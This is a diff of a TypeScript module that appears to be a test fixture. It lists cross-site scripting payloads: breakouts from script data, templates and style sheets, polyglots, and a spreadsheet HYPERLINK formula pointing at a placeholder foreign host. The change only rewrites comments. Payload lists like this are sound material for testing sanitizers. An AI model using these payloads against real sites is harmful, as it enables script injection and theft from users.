@@ -1,6 +1,6 @@
 import { FOREIGN_HOST, RUN } from "../hook.ts";
 
-/** Out of JSON, JavaScript and the page's own boot data. */
+/** Payloads that break out of JSON, JavaScript and the page's boot data. */
 const SCRIPT_DATA = [
   `"}]}</script><script>${RUN}</script>`,
   `\\"}</script><svg/onload=${RUN}>`,
@@ -39,7 +39,7 @@ const TEMPLATES = [
   `<p data-bind="html: '<script>${RUN}</script>'">`,
 ];
 
-/** Style sheets that run, load or read something. */
+/** Style sheets that execute scripts, load resources or leak data. */
 const STYLES = [
   `</style><script>${RUN}</script>`,
   `}</style><svg/onload=${RUN}>`,
@@ -58,7 +58,7 @@ const STYLES = [
   `<style>@keyframes x{}</style><p style=animation-name:x onanimationend=${RUN}>`,
 ];
 
-/** One text for many contexts at once. */
+/** Polyglots: texts that are dangerous in many contexts. */
 const POLYGLOTS = [
   `"'--></title></style></textarea></script><svg/onload=${RUN}>`,
   `javascript:/*--></title></style></textarea></script>'"/*\\'/*\\"/*--><svg/onload='/*<!--*/${RUN}//'>`,
@@ -70,5 +70,5 @@ const POLYGLOTS = [
   `=HYPERLINK("http://${FOREIGN_HOST}","<img src=x onerror=${RUN}>")`,
 ];
 
-/** Other languages that a text may land in: data, templates, style sheets, and several at once. */
+/** Payloads for contexts other than HTML: data, templates, style sheets, and polyglots. */
 export const languages: readonly string[] = [...SCRIPT_DATA, ...TEMPLATES, ...STYLES, ...POLYGLOTS];
